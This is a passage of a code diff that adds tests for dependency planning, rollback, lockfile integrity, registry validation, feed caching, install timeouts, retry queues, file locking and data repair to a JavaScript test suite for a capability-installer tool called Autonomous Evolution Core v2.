@@ -15,6 +15,23 @@ const EvolutionEngineV2 = require('./evolution-engine-v2');
 const LearningSystem = require('./modules/learning-system');
 const PatternExtractor = require('./modules/pattern-extractor');
 const CommunityShare = require('./modules/community-share');
+const ImplementationResolver = require('./modules/implementation-resolver');
+const DependencyPlanner = require('./modules/dependency-planner');
+const { satisfies, compareVersions } = require('./modules/version-utils');
+const CapabilityLock = require('./modules/capability-lock');
+const RegistryValidator = require('./modules/registry-validator');
+const RegistryLoader = require('./modules/registry-loader');
+const RegistryFeed = require('./modules/registry-feed');
+const RegistryServer = require('./modules/registry-server');
+const InstallQueue = require('./modules/install-queue');
+const Storage = require('./modules/storage');
+const DataIntegrity = require('./modules/data-integrity');
+const Migrations = require('./modules/migrations');
+const InstallRoots = require('./modules/install-roots');
+const InstallPolicy = require('./modules/install-policy');
+const RiskClassifier = require('./modules/risk-classifier');
+const CapabilityRanker = require('./modules/capability-ranker');
+const ErrorDetector = require('./modules/error-detector');
 
 async function runTests() {
   console.log(chalk.bold.cyan('\n🧪 Autonomous Evolution Core v2 - Test Suite'));
@@ -23,6 +40,12 @@ async function runTests() {
   let passed = 0;
   let failed = 0;
 
+  // Keep the suite's data out of ~/.evolution
+  const testHome = require('fs').mkdtempSync(require('path').join(require('os').tmpdir(), 'evolution-home-'));
+  process.env.EVOLUTION_HOME = testHome;
+  // Removed however the run ends, including a crash part-way through
+  process.on('exit', () => require('fs').rmSync(testHome, { recursive: true, force: true }));
+
   // Test 1: Evolution Engine - Load Registry
   console.log(chalk.yellow('\n[Test 1] Evolution Engine - Load Registry'));
   try {
@@ -305,6 +328,1521 @@ async function runTests() {
     failed++;
   }
 
+  // Test 13: Implementation Resolver - Resolve Registry
+  console.log(chalk.yellow('\n[Test 13] Implementation Resolver - Resolve Registry'));
+  try {
+    const engine = new EvolutionEngineV2();
+    const { resolved, unresolved } = engine.resolveRegistry();
+    const resolver = new ImplementationResolver();
+    const bad = resolver.resolveAll({
+      categories: {
+        misc: { capabilities: [{ id: 'broken', implementation: { type: 'skill', source: 'ftp' } }] }
+      }
+    });
+
+    if (unresolved.length === 0 && resolved.length === engine.getStatus().totalCapabilities &&
+        bad.unresolved.length === 1 && bad.unresolved[0].id === 'broken') {
+      console.log(chalk.green('✓ PASS: Resolved all ' + resolved.length + ' capabilities'));
+      console.log(chalk.gray('  - Unresolvable entry reported: ' + bad.unresolved[0].reason));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unresolved: ' + unresolved.map(u => u.id).join(', ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 14: Dependency Planner - Ordered Plan and Cycles
+  console.log(chalk.yellow('\n[Test 14] Dependency Planner - Ordered Plan and Cycles'));
+  try {
+    const caps = {
+      report: { id: 'report', dependencies: ['charts', 'pdfkit', 'fs'] },
+      charts: { id: 'charts', dependencies: ['chart.js', 'definitely-not-a-real-binary-xyz'] },
+      a: { id: 'a', dependencies: ['b'] },
+      b: { id: 'b', dependencies: ['a'] }
+    };
+    const planner = new DependencyPlanner({
+      findCapability: id => caps[id] || null,
+      binaries: ['definitely-not-a-real-binary-xyz']
+    });
+
+    const plan = planner.plan(caps.report);
+    const order = plan.steps.map(s => s.action + ':' + s.name);
+    const cyclic = planner.plan(caps.a);
+
+    if (order.indexOf('install-capability:charts') < order.indexOf('install-capability:report') &&
+        order.includes('install-npm:chart.js') && order.includes('skip-builtin:fs') &&
+        plan.missing.length === 1 && plan.missing[0].type === 'binary' &&
+        cyclic.cycles.length === 1 && !cyclic.ok) {
+      console.log(chalk.green('✓ PASS: Planned ' + plan.steps.length + ' steps'));
+      console.log(chalk.gray('  - Cycle found: ' + cyclic.cycles[0].join(' → ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected plan: ' + order.join(', ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 15: Evolution Engine - Rollback and Uninstall
+  console.log(chalk.yellow('\n[Test 15] Evolution Engine - Rollback and Uninstall'));
+  try {
+    const engine = new EvolutionEngineV2();
+    const calls = [];
+    let failMain = true;
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = async (pkg) => {
+      calls.push('install:' + pkg);
+      if (pkg === 'test-main-pkg' && failMain) throw new Error('simulated failure');
+      return { success: true };
+    };
+    engine._uninstallNpmPackage = async (pkg) => {
+      calls.push('uninstall:' + pkg);
+      return { success: true };
+    };
+
+    const capability = {
+      id: 'test-rollback-cap',
+      name: 'Rollback Test',
+      implementation: { type: 'npm', package: 'test-main-pkg' },
+      dependencies: ['test-dep-pkg']
+    };
+
+    const failedResult = await engine.installCapability(capability);
+    failMain = false;
+    const installResult = await engine.installCapability(capability);
+    const uninstallResult = await engine.uninstallCapability(capability.id);
+
+    if (!failedResult.success && failedResult.rolledBack.includes('npm package test-dep-pkg') &&
+        installResult.success && uninstallResult.success &&
+        calls.slice(-2).join(',') === 'uninstall:test-main-pkg,uninstall:test-dep-pkg' &&
+        !engine.installedCapabilities.includes(capability.id)) {
+      console.log(chalk.green('✓ PASS: Rolled back failed install and uninstalled cleanly'));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected calls: ' + calls.join(', ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 16: Versioning - Ranges and Outdated Detection
+  console.log(chalk.yellow('\n[Test 16] Versioning - Ranges and Outdated Detection'));
+  try {
+    const engine = new EvolutionEngineV2();
+    const capability = engine.findCapability('postgres-connector');
+    engine.installedCapabilities = ['postgres-connector'];
+    engine.installRecords = {
+      'postgres-connector': { installer: 'npm', package: 'pg', capabilityVersion: '0.9.0' }
+    };
+    engine._detectInstalledVersion = () => ({ version: '7.18.2' });
+
+    const outdated = engine.checkOutdated();
+
+    if (satisfies('8.11.3', '^8.11.0') && !satisfies('9.0.0', '^8.11.0') &&
+        satisfies('0.2.5', '~0.2.0') && compareVersions('1.0.0', '1.0.0-beta') > 0 &&
+        outdated.length === 1 && outdated[0].reasons.length === 2 &&
+        outdated[0].wanted === capability.implementation.version) {
+      console.log(chalk.green('✓ PASS: Detected outdated capability'));
+      outdated[0].reasons.forEach(r => console.log(chalk.gray('  - ' + r)));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected outdated result: ' + JSON.stringify(outdated)));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 17: Capability Lock - Frozen Install
+  console.log(chalk.yellow('\n[Test 17] Capability Lock - Frozen Install'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const lockPath = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-lock-')), 'evolution.lock');
+
+    const engine = new EvolutionEngineV2();
+    engine.installedCapabilities = [];
+    engine.installRecords = {};
+    engine.saveInstalledCapabilities = () => {};
+    engine.lock = new CapabilityLock({ lockPath, npmRoot: engine._npmRoot(), baseDir: __dirname });
+
+    const lock = engine.lock.build({
+      'batch-operations': { installer: 'builtin', modulePath: 'modules/batch-operations.js', capabilityVersion: '1.0.0' }
+    });
+    engine.lock.write(lock);
+    const reproduced = await engine.installFrozen();
+
+    engine.installedCapabilities = [];
+    engine.installRecords = {};
+    lock.capabilities['batch-operations'].hash = 'sha256-tampered';
+    engine.lock.write(lock);
+    const tampered = await engine.installFrozen();
+    fs.rmSync(path.dirname(lockPath), { recursive: true, force: true });
+
+    if (reproduced.success && reproduced.installed.includes('batch-operations') &&
+        !tampered.success && tampered.message.includes('hash')) {
+      console.log(chalk.green('✓ PASS: Reproduced lock and rejected mismatched hash'));
+      console.log(chalk.gray('  - ' + tampered.message));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + reproduced.message + ' / ' + tampered.message));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 18: Registry Validator - Schema and Semantic Errors
+  console.log(chalk.yellow('\n[Test 18] Registry Validator - Schema and Semantic Errors'));
+  try {
+    const validator = new RegistryValidator();
+    const text = JSON.stringify({
+      categories: {
+        misc: {
+          capabilities: [
+            { id: 'one', name: 'One', implementation: { type: 'npm', package: 'pg', installCommand: 'npm install pg' }, detectPatterns: ['bad(('] },
+            { id: 'one', name: 'Dup', implementation: { type: 'npm', pakage: 'x', installCommand: 'git clone https://example.com/x' } }
+          ]
+        }
+      }
+    }, null, 2);
+
+    const result = validator.validateText(text, 'test.json');
+    const messages = result.issues.map(i => i.path + ': ' + i.message);
+    const regexIssue = result.issues.find(i => i.path === 'categories.misc.capabilities[0].detectPatterns[0]');
+    const bundled = new EvolutionEngineV2().validateRegistry();
+
+    if (!result.valid && regexIssue && regexIssue.line === text.split('\n').findIndex(l => l.includes('bad((')) + 1 &&
+        messages.some(m => m.includes('Duplicate capability id')) &&
+        messages.some(m => m.includes('did you mean "package"')) &&
+        messages.some(m => m.includes('installCommand uses git')) &&
+        bundled.valid) {
+      console.log(chalk.green('✓ PASS: Found ' + result.issues.length + ' issues with locations'));
+      console.log(chalk.gray('  - ' + validator.formatIssue(regexIssue)));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected issues: ' + messages.join(' | ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 19: Registry Loader - Layered Overlays
+  console.log(chalk.yellow('\n[Test 19] Registry Loader - Layered Overlays'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-layers-'));
+    const userDir = path.join(tmp, 'registry.d');
+    const projectPath = path.join(tmp, 'project.json');
+    fs.mkdirSync(userDir);
+    fs.writeFileSync(path.join(userDir, '10-team.json'), JSON.stringify({
+      categories: {
+        databases: {
+          capabilities: [
+            { id: 'redis-connector', disabled: true },
+            { id: 'postgres-connector', implementation: { version: '^8.12.0' } }
+          ]
+        },
+        internal: {
+          capabilities: [
+            { id: 'team-deployer', name: 'Team Deployer', implementation: { type: 'npm', package: '@team/deployer' } }
+          ]
+        }
+      }
+    }, null, 2));
+    fs.writeFileSync(projectPath, JSON.stringify({
+      categories: {
+        social: { disabled: true },
+        internal: { capabilities: [{ id: 'team-deployer', priority: 'urgent' }] }
+      }
+    }, null, 2));
+
+    const loader = new RegistryLoader({ userDir, projectPath });
+    const result = loader.load();
+    const find = id => Object.values(result.registry.categories)
+      .flatMap(category => category.capabilities)
+      .find(capability => capability.id === id);
+    const postgres = find('postgres-connector');
+    const priorityIssue = result.issues.find(i => i.path.endsWith('.priority'));
+    fs.rmSync(tmp, { recursive: true, force: true });
+
+    if (postgres.implementation.version === '^8.12.0' && postgres.implementation.package === 'pg' &&
+        !find('redis-connector') && !result.registry.categories.social &&
+        find('team-deployer').name === 'Team Deployer' &&
+        result.provenance.capabilities['team-deployer'].overriddenBy.length === 1 &&
+        result.provenance.capabilities['postgres-connector'].definedIn.endsWith('registry.json') &&
+        priorityIssue && priorityIssue.source.endsWith('project.json') && priorityIssue.line === 10) {
+      console.log(chalk.green('✓ PASS: Merged ' + result.layers.length + ' layers with provenance'));
+      console.log(chalk.gray('  - ' + loader.validator.formatIssue(priorityIssue)));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected merge result: ' + result.issues.map(i => i.message).join(' | ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 20: Registry Feeds - Caching and Offline Fallback
+  console.log(chalk.yellow('\n[Test 20] Registry Feeds - Caching and Offline Fallback'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-feeds-'));
+    const servedDir = path.join(tmp, 'served');
+    fs.mkdirSync(servedDir);
+    fs.writeFileSync(path.join(servedDir, 'team.json'), JSON.stringify({
+      categories: {
+        internal: {
+          capabilities: [
+            { id: 'team-deployer', name: 'Team Deployer', implementation: { type: 'npm', package: '@team/deployer' } }
+          ]
+        }
+      }
+    }));
+
+    const server = new RegistryServer({ dir: servedDir, port: 0 });
+    const { url } = await server.start();
+    const feedUrl = url + '/team.json';
+    const feeds = new RegistryFeed({ dataDir: tmp, env: {} });
+    feeds.add(feedUrl);
+
+    const first = await feeds.refreshFeed(feedUrl);
+    const fresh = await feeds.refreshFeed(feedUrl);
+    const second = await feeds.refreshFeed(feedUrl, { force: true });
+    await server.stop();
+    const offline = await feeds.refreshFeed(feedUrl, { force: true });
+
+    const loader = new RegistryLoader({
+      userDir: path.join(tmp, 'none'),
+      projectPath: path.join(tmp, 'none.json'),
+      feedSources: () => feeds.sources()
+    });
+    const result = loader.load();
+    fs.rmSync(tmp, { recursive: true, force: true });
+
+    if (first.status === 'updated' && fresh.status === 'fresh' && second.status === 'not-modified' &&
+        offline.status === 'offline' && result.registry.categories.internal &&
+        result.provenance.capabilities['team-deployer'].definedIn === feedUrl) {
+      console.log(chalk.green('✓ PASS: Feed fetched, revalidated with 304 and served from cache offline'));
+      console.log(chalk.gray('  - ' + [first, fresh, second, offline].map(r => r.status).join(' → ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected feed states: ' + JSON.stringify([first, fresh, second, offline])));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 21: Post-Install Verification
+  console.log(chalk.yellow('\n[Test 21] Post-Install Verification'));
+  try {
+    const fs = require('fs');
+    const os = require('os');
+    const path = require('path');
+    const npmRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-verify-'));
+    const engine = new EvolutionEngineV2({ installRoots: { npm: npmRoot } });
+    const calls = [];
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = async (pkg) => {
+      calls.push('install:' + pkg);
+      // Only the real package lands under the npm root
+      if (pkg.startsWith('test-verify-real')) {
+        const dir = path.join(npmRoot, 'node_modules', 'test-verify-real');
+        fs.mkdirSync(dir, { recursive: true });
+        fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'test-verify-real', version: '1.0.0' }));
+        fs.writeFileSync(path.join(dir, 'index.js'), 'module.exports = true;');
+      }
+      return { success: true };
+    };
+    engine._uninstallNpmPackage = async (pkg) => {
+      calls.push('uninstall:' + pkg);
+      return { success: true };
+    };
+
+    const broken = {
+      id: 'test-verify-broken',
+      name: 'Broken Verify Test',
+      implementation: { type: 'npm', package: 'test-verify-pkg' },
+      dependencies: ['test-verify-dep'],
+      verify: { require: 'test-verify-pkg-that-does-not-exist' }
+    };
+    const working = {
+      id: 'test-verify-ok',
+      name: 'Working Verify Test',
+      implementation: { type: 'npm', package: 'test-verify-real' },
+      verify: { require: 'test-verify-real', command: 'node --version', expect: '^v\\d+' }
+    };
+    // chalk is the engine's own dependency, never installed under the npm root
+    const borrowed = {
+      id: 'test-verify-borrowed',
+      name: 'Borrowed Verify Test',
+      implementation: { type: 'npm', package: 'chalk' },
+      verify: { require: 'chalk' }
+    };
+
+    const brokenResult = await engine.installCapability(broken);
+    const borrowedResult = await engine.installCapability(borrowed);
+    engine.installQueue.remove(borrowed.id);
+    const workingResult = await engine.installCapability(working);
+    engine.findCapability = id => (id === working.id ? working : null);
+    let saves = 0;
+    const save = engine.saveInstalledCapabilities;
+    engine.saveInstalledCapabilities = function () {
+      saves++;
+      return save.call(this);
+    };
+    const [recheck] = await engine.verifyInstalled([working.id]);
+    await engine.verifyInstalled([]);
+    const savesWhilePassing = saves;
+    engine.saveInstalledCapabilities = save;
+    await engine.uninstallCapability(working.id);
+    engine.installQueue.remove(broken.id);
+    fs.rmSync(npmRoot, { recursive: true, force: true });
+
+    if (!brokenResult.success && brokenResult.message.includes('cannot be resolved') &&
+        calls.includes('uninstall:test-verify-pkg') && brokenResult.rolledBack.includes('npm package test-verify-dep') &&
+        !borrowedResult.success && borrowedResult.message.includes('cannot be resolved') &&
+        workingResult.success && recheck.passed && recheck.checks.length === 2 && savesWhilePassing === 0 &&
+        !engine.installedCapabilities.includes(broken.id)) {
+      console.log(chalk.green('✓ PASS: Unverified install removed, verified install recorded'));
+      console.log(chalk.gray('  - ' + brokenResult.message));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + brokenResult.message + ' / ' + calls.join(', ') + ' / saves: ' + savesWhilePassing));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 22: Install Logs and Progress Events
+  console.log(chalk.yellow('\n[Test 22] Install Logs and Progress Events'));
+  try {
+    const fs = require('fs');
+    const engine = new EvolutionEngineV2();
+    const events = [];
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = function () {
+      return this._spawnCommand(process.execPath, ['-e', 'console.log("fetching"); console.error("npm ERR! boom"); process.exit(2)']);
+    };
+    ['started', 'finished', 'failed'].forEach(name => engine.on(name, () => events.push(name)));
+    engine.on('output', event => events.push('output:' + event.stream));
+
+    const result = await engine.installCapability({
+      id: 'test-install-log',
+      name: 'Install Log Test',
+      implementation: { type: 'npm', package: 'test-install-log-pkg' }
+    });
+    const log = fs.readFileSync(result.logPath, 'utf8');
+    fs.unlinkSync(result.logPath);
+    engine.installQueue.remove('test-install-log');
+
+    if (!result.success && result.message.includes(result.logPath) &&
+        events[0] === 'started' && events[events.length - 1] === 'failed' &&
+        events.includes('output:stdout') && events.includes('output:stderr') &&
+        log.includes('npm ERR! boom') && log.includes('# failed')) {
+      console.log(chalk.green('✓ PASS: Output captured to log with started → output → failed events'));
+      console.log(chalk.gray('  - ' + result.message));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: Unexpected events: ' + events.join(', ')));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 23: Install Timeouts, Cancellation and Orphan Cleanup
+  console.log(chalk.yellow('\n[Test 23] Install Timeouts, Cancellation and Orphan Cleanup'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const engine = new EvolutionEngineV2();
+    let grandchild = null;
+    engine.on('output', event => {
+      const match = /GRANDCHILD (\d+)/.exec(event.data);
+      if (match) grandchild = parseInt(match[1], 10);
+    });
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = function () {
+      return this._spawnCommand(process.execPath, ['-e', `
+        const child = require('child_process').spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)'], { stdio: 'ignore' });
+        console.log('GRANDCHILD ' + child.pid);
+        setTimeout(() => {}, 60000);`]);
+    };
+    // Killed processes may linger as zombies when nothing reaps them
+    const isRunning = pid => {
+      try {
+        process.kill(pid, 0);
+      } catch (error) {
+        return false;
+      }
+      try {
+        return !/State:\s+Z/.test(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
+      } catch (error) {
+        return true;
+      }
+    };
+    const capability = id => ({ id, name: 'Hung Install', implementation: { type: 'npm', package: 'test-hung-pkg' } });
+
+    const timedOut = await engine.installCapability(capability('test-timeout'), { timeout: 500 });
+    await new Promise(resolve => setTimeout(resolve, 200));
+    const grandchildRunning = grandchild !== null && isRunning(grandchild);
+
+    const controller = new AbortController();
+    setTimeout(() => controller.abort(), 200);
+    const cancelled = await engine.installCapability(capability('test-cancel'), { signal: controller.signal });
+
+    const skillsDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-skills-'));
+    engine._skillsDir = () => skillsDir;
+    fs.mkdirSync(path.join(skillsDir, '.stale-skill.partial-999999999'));
+    fs.mkdirSync(path.join(skillsDir, `.live-skill.partial-${process.pid}`));
+    const removed = engine._removeOrphanedClones();
+    fs.rmSync(skillsDir, { recursive: true, force: true });
+
+    const failure = engine.installQueue.entries['test-timeout'];
+    engine.installQueue.remove('test-timeout');
+    engine.installQueue.remove('test-cancel');
+    if (timedOut.reason === 'timeout' && failure && failure.errorClass === 'timeout' && !grandchildRunning &&
+        cancelled.reason === 'cancelled' &&
+        removed.length === 1 && removed[0] === '.stale-skill.partial-999999999') {
+      console.log(chalk.green('✓ PASS: Timed out, cancelled and killed the whole process group'));
+      console.log(chalk.gray('  - ' + timedOut.message));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ timedOut: timedOut.reason, grandchildRunning, cancelled: cancelled.reason, removed })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 24: Failed-install queue with retry and backoff
+  console.log(chalk.yellow('\n[Test 24] Failed-Install Queue, Backoff and Retry'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-queue-'));
+    const queuePath = path.join(dir, 'install-queue.json');
+    const queue = new InstallQueue({ queuePath, baseDelay: 1000, maxAttempts: 3 });
+    const now = Date.parse('2026-01-01T00:00:00Z');
+
+    const classes = [
+      queue.classify('npm ERR! network request failed, reason: getaddrinfo ENOTFOUND registry.npmjs.org'),
+      queue.classify('Command failed', null, "fatal: Unable to create '/repo/.git/index.lock': File exists"),
+      queue.classify('Install timed out after 500ms', 'timeout'),
+      queue.classify('Verification failed: require foo: cannot be resolved'),
+      queue.classify('npm ERR! 404 Not Found')
+    ];
+
+    const first = queue.recordFailure('flaky', { message: 'socket hang up', now });
+    const second = queue.recordFailure('flaky', { message: 'socket hang up', now });
+    queue.recordFailure('broken', { message: 'npm ERR! 404 Not Found', now });
+    const third = queue.recordFailure('flaky', { message: 'socket hang up', now });
+    const reloaded = new InstallQueue({ queuePath });
+    const dueBefore = reloaded.due({ now: now + 1500 }).map(entry => entry.id);
+    const dueForcedTransient = reloaded.due({ force: true, transientOnly: true }).map(entry => entry.id);
+
+    const engine = new EvolutionEngineV2();
+    engine.installQueue = new InstallQueue({ queuePath: path.join(dir, 'engine-queue.json'), baseDelay: 1 });
+    const flakyCap = { id: 'test-flaky-retry', name: 'Flaky', implementation: { type: 'npm', package: 'test-flaky-pkg' } };
+    const findCapability = engine.findCapability.bind(engine);
+    engine.findCapability = id => id === flakyCap.id ? flakyCap : findCapability(id);
+    let calls = 0;
+    engine._stageNpmPackage = async () => ({ packages: 1, scripts: [], versions: {} });
+    engine._installNpmPackage = async () => {
+      calls++;
+      if (calls === 1) throw new Error('connect ECONNRESET 104.16.0.1:443');
+      return { success: true };
+    };
+    engine._uninstallNpmPackage = async () => ({ success: true });
+    engine._verifyOrRemove = async () => {};
+
+    const failedInstall = await engine.installCapability(flakyCap);
+    const queued = engine.installQueue.entries[flakyCap.id];
+    await new Promise(resolve => setTimeout(resolve, 10));
+    const retried = await engine.retryFailed({ transientOnly: true });
+    const installed = engine.installedCapabilities.includes(flakyCap.id);
+    await engine.uninstallCapability(flakyCap.id, { force: true });
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    if (classes.join() === 'network,lock,timeout,verification,error' &&
+        Date.parse(first.nextAttemptAt) - now === 1000 && Date.parse(second.nextAttemptAt) - now === 2000 &&
+        third.status === 'given-up' && dueBefore.join() === 'broken' && dueForcedTransient.join() === 'flaky' &&
+        !failedInstall.success && failedInstall.errorClass === 'network' && queued && queued.transient &&
+        retried.length === 1 && retried[0].success && installed && engine.installQueue.list().length === 0) {
+      console.log(chalk.green('✓ PASS: Failures classified, backed off and retried from the queue'));
+      console.log(chalk.gray('  - ' + classes.join(', ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ classes, third, dueBefore, dueForcedTransient, failedInstall, retried })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 25: Atomic writes and cross-process locking
+  console.log(chalk.yellow('\n[Test 25] Storage - Atomic Writes and Cross-Process Locks'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const { spawn } = require('child_process');
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-storage-'));
+    const counterPath = path.join(dir, 'counter.json');
+    const storage = new Storage({ lockTimeout: 20000 });
+
+    // Two processes incrementing the same file must not lose updates
+    const worker = `
+      const Storage = require(${JSON.stringify(path.join(__dirname, 'modules', 'storage'))});
+      const storage = new Storage({ lockTimeout: 20000 });
+      for (let i = 0; i < 50; i++) {
+        storage.updateJson(process.argv[1], { count: 0 }, data => { data.count++; });
+      }`;
+    const run = () => new Promise(resolve => {
+      spawn(process.execPath, ['-e', worker, counterPath], { stdio: 'ignore' }).on('close', resolve);
+    });
+    // Both start out waiting on a lock left by a dead process; only one may take it over
+    fs.writeFileSync(`${counterPath}.lock`, JSON.stringify({ pid: 999999999, acquiredAt: new Date().toISOString() }));
+    await Promise.all([run(), run()]);
+    const count = storage.readJson(counterPath).count;
+
+    // A lock left behind by a dead process is taken over
+    fs.writeFileSync(`${counterPath}.lock`, JSON.stringify({ pid: 999999999, acquiredAt: new Date().toISOString() }));
+    storage.updateJson(counterPath, { count: 0 }, data => { data.count++; });
+    const staleTakenOver = storage.readJson(counterPath).count === count + 1 && !fs.existsSync(`${counterPath}.lock`);
+
+    // A live lock makes writers time out with ELOCKED, however old it is
+    fs.writeFileSync(`${counterPath}.lock`, JSON.stringify({ pid: process.ppid, acquiredAt: new Date().toISOString() }));
+    const hourAgo = new Date(Date.now() - 60 * 60 * 1000);
+    fs.utimesSync(`${counterPath}.lock`, hourAgo, hourAgo);
+    let lockError = null;
+    try {
+      new Storage({ lockTimeout: 100 }).updateJson(counterPath, {}, () => {});
+    } catch (error) {
+      lockError = error.code;
+    }
+    fs.rmSync(`${counterPath}.lock`, { force: true });
+
+    const merged = storage.merge(
+      { a: 1, b: 1, c: 1 },
+      { a: 2, b: 1, d: 1 },
+      { a: 1, c: 1, e: 1 }
+    );
+    const leftovers = fs.readdirSync(dir).filter(file => file.includes('.tmp-') || file.includes('.stale-') || file.endsWith('.lock'));
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    if (count === 100 && staleTakenOver && lockError === 'ELOCKED' &&
+        JSON.stringify(merged) === JSON.stringify({ a: 2, e: 1, d: 1 }) && leftovers.length === 0) {
+      console.log(chalk.green('✓ PASS: Concurrent updates serialized, stale locks recovered, writes atomic'));
+      console.log(chalk.gray('  - 2 processes x 50 increments = ' + count));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ count, staleTakenOver, lockError, merged, leftovers })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 26: Corruption detection, backups and repair
+  console.log(chalk.yellow('\n[Test 26] Data Corruption Detection and Repair'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-data-'));
+    const storage = new Storage();
+    const integrity = new DataIntegrity({ dataDir: dir, storage });
+    const dbPath = path.join(dir, 'learning-db.json');
+    const issuesPath = path.join(dir, 'issues-log.json');
+
+    const record = n => ({ key: `tool-${n}`, appliedCount: n });
+    storage.writeJson(dbPath, [record(1), record(2)]);
+    storage.writeJson(dbPath, [record(1), record(2), record(3), record(4)]);
+    storage.writeJson(issuesPath, [{ tool: 'exec', issue: 'timeout' }]);
+
+    // Truncate mid-record, as a crash during a plain write would
+    const text = fs.readFileSync(dbPath, 'utf8');
+    fs.writeFileSync(dbPath, text.slice(0, text.indexOf('tool-4') + 4));
+    // Edit a value so it still parses but no longer matches its checksum
+    fs.writeFileSync(issuesPath, fs.readFileSync(issuesPath, 'utf8').replace('timeout', 'crash'));
+
+    let readError = null;
+    try {
+      storage.readJson(dbPath);
+    } catch (error) {
+      readError = error;
+    }
+    let writeRefused = false;
+    try {
+      storage.writeJson(dbPath, []);
+    } catch (error) {
+      writeRefused = error instanceof Storage.CorruptDataError;
+    }
+
+    const statuses = integrity.check().map(result => `${result.file}:${result.status}`);
+    const repairs = integrity.repair();
+    const repairedDb = storage.readJson(dbPath);
+    const repairedIssues = storage.readJson(issuesPath);
+    const corruptKept = fs.readdirSync(dir).filter(file => file.includes('.corrupt-')).length;
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    if (readError instanceof Storage.CorruptDataError && writeRefused &&
+        statuses.join() === 'issues-log.json:corrupt,learning-db.json:corrupt' &&
+        repairs.length === 2 && repairs.every(result => result.success) &&
+        repairedDb.map(r => r.key).join() === 'tool-1,tool-2,tool-3' &&
+        repairedIssues[0].issue === 'crash' && corruptKept === 2) {
+      console.log(chalk.green('✓ PASS: Corrupt files detected, left untouched and repaired'));
+      repairs.forEach(result => console.log(chalk.gray('  - ' + result.message)));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ readError: readError && readError.message, writeRefused, statuses, repairs, repairedDb })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 27: Versioned data schemas and migrations
+  console.log(chalk.yellow('\n[Test 27] Data Schema Versions and Migrations'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
